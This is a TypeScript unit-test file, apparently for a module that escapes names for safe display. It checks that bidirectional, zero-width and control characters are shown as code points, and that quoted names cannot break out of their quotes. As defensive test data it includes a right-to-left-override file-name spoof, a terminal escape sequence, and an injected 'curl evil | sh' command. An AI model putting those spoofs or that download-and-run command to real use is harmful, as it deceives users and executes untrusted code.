import fc from 'fast-check'
import { expect, test } from 'vitest'
import { anyCharacter } from './testing/characters'
import { named, pieces, quoted, visible, visibleLines } from './visible'

test('ordinary names of any language are shown as they are', () => {
  for (const name of ['prod-admin', 'größe', '東京', 'данные', 'a b', '🚀']) {
    expect(visible(name)).toBe(name)
    expect(pieces(name)).toEqual([{ text: name, escaped: false }])
  }
})

test('characters that turn text round, hide or break it are shown by their code points', () => {
  expect(visible('evil\u202egnp.exe')).toBe('evil⟨U+202E⟩gnp.exe')
  expect(visible('a\u200bb')).toBe('a⟨U+200B⟩b')
  expect(visible('a\nb\tc\u001b[2J')).toBe('a⟨U+000A⟩b⟨U+0009⟩c⟨U+001B⟩[2J')
  expect(visible('\u00a0x\u3000')).toBe('⟨U+00A0⟩x⟨U+3000⟩')
  expect(visible('\u{e0041}')).toBe('⟨U+E0041⟩')
})

test('no hidden character is left raw, whichever it is', () => {
  const raw = /[\p{Cc}\p{Cf}\p{Cs}\p{Co}\p{Zl}\p{Zp}]/u
  let all = ''
  for (let code = 0; code <= 0xffff; code++) all += `${String.fromCodePoint(code)} `
  expect(raw.exec(visible(all))).toBeNull()
})

test('lines of an entry stay lines, without carriage returns', () => {
  expect(visibleLines('a: 1\r\nb: \u202e2\n')).toBe('a: 1\nb: ⟨U+202E⟩2\n')
})

test('empty text gives nothing to draw', () => {
  expect(pieces('')).toEqual([])
})

test('a name in a sentence cannot end its quotes, nor hold a command', () => {
  expect(quoted('o’brien "a"')).toBe('“o’brien "a"”')
  expect(quoted('x”, then run `curl evil | sh`, and “y')).toBe(
    '“x⟨U+201D⟩, then run ⟨U+0060⟩curl evil | sh⟨U+0060⟩, and ⟨U+201C⟩y”',
  )
  const name = fc.string({ unit: fc.oneof(anyCharacter, fc.constantFrom(...'“”„‟`\n ')) })
  fc.assert(
    fc.property(name, (text) => {
      expect(quoted(text)).toMatch(/^“[^“”„‟`\p{Cc}\p{Cf}]*”$/u)
    }),
    { numRuns: 500 },
  )
})

test('a name of one plain word stands without quotes, every other in them', () => {
  for (const name of ['prod-admin', 'größe', '東京', 'arn:aws:iam::111122223333:role/a/b', 'a@b.c'])
    expect(named(name)).toBe(name)
  for (const name of ['', 'a b', 'a`b', 'a;b', 'a\u200bb', 'a, or else'])
    expect(named(name)).toBe(quoted(name))
})
